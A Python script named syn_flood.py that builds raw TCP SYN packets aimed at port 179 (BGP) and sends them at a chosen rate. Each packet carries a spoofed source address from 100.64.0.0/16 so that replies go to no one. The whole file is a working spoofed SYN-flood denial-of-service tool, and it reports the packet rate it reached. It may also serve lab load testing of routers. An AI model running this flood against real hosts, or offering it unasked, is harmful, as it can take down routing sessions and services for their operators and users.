# SPDX-License-Identifier: Apache-2.0
"""SYNs to port 179, each from another address of 100.64.0.0/16, or of the first of these:
`syn_flood.py TARGET RATE SECONDS [SOURCES]`. Nothing of the sender's answers what comes back: the
addresses are nobody's. Says how many a second it sent."""

import random
import socket
import struct
import sys
import time

IP_HEADER = struct.Struct("!BBHHHBBH4s4s")
TCP_HEADER = struct.Struct("!HHIIBBHHH")
AT_ONCE = 50  # packets from one look at the clock to the next
SYN, WINDOW = 2, 65535


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, port: int) -> bytes:
    words = port, 179, random.getrandbits(32), 0, 5 << 4, SYN, WINDOW
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, TCP_HEADER.size)
    summed = checksum(pseudo + TCP_HEADER.pack(*words, 0, 0))
    header = IP_HEADER.pack(0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    return header + TCP_HEADER.pack(*words, summed, 0)


def source(number: int) -> bytes:
    return b"\x64\x40" + number.to_bytes(2, "big")


def main() -> None:
    target, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    sources = int(sys.argv[4]) if len(sys.argv) > 4 else 1 << 16
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = [
        syn(
            source(random.randrange(sources)),
            socket.inet_aton(target),
            random.randrange(1024, 65536),
        )
        for _ in range(50_000)
    ]
    begin, sent = time.monotonic(), 0
    while (now := time.monotonic() - begin) < seconds:
        if sent >= now * rate:
            time.sleep(0.001)
            continue
        for _ in range(AT_ONCE):
            raw.sendto(packets[sent % len(packets)], (target, 0))
            sent += 1
    print(int(sent / seconds), flush=True)


if __name__ == "__main__":
    main()
